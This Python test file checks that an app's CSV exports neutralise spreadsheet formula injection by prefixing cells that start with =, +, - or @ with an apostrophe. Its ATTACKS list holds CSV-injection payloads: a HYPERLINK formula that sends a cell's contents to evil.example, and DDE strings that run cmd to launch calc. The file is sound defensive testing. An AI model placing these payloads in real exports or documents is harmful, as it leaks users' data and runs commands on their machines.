"""Every CSV the app writes (Evaluate results, contamination reports, Synthetic data, Minutes action items, Compare)
neutralizes text cells a spreadsheet would run as a formula (= + - @): they get a leading ', as OWASP advises;
numbers, also written as text, are kept."""

from __future__ import annotations

import csv
import io

from engines import minutes
from engines import synthetic as syn
from engines.evals import report as ereport
from engines.evals.contamination.report import Report, Row
from engines.evals.contamination.report import to_csv as contamination_csv
from engines.evals.store import Result

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _neutral(text: str) -> None:
    cells = _cells(text)
    for attack in ATTACKS:
        assert attack not in cells and "'" + attack in cells


def test_evaluate_results_csv():
    results = [Result(model="m", item_id=str(n), kind="freeform", method="exact", score=-0.5 if n else 1.0,
                      output=attack, judge_rationale=attack) for n, attack in enumerate(ATTACKS)]
    text = ereport.to_csv(results)
    _neutral(text)
    assert "-0.5" in _cells(text)  # a number stays a number


def test_contamination_csv():
    report = Report(id="r", model="m", set_name="s", set_hash="h", set_size=4, options={},
                    rows=[Row(id=str(n), set="test", text=attack) for n, attack in enumerate(ATTACKS)])
    _neutral(contamination_csv(report))


def test_synthetic_csv():
    fields = syn.validate_fields(["name", "note", "age:int(0..99)"])
    _neutral(syn.to_csv([{"name": a, "note": a, "age": -3} for a in ATTACKS], fields))
    assert "-3" in _cells(syn.to_csv([{"name": "x", "note": "y", "age": -3}], fields))


def test_minutes_action_items_csv():
    table = "| # | Action | Owner | Due | Source |\n|---|---|---|---|---|\n" + "".join(
        f"| {n} | {a.replace('|', '/')} | @bob | -1 | x |\n" for n, a in enumerate(ATTACKS, 1))
    cells = _cells(minutes.action_items_csv("## Action items\n" + table))
    assert "'@bob" in cells and "@bob" not in cells and "-1" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert not any(c.startswith("-") and c != "-1" for c in cells)
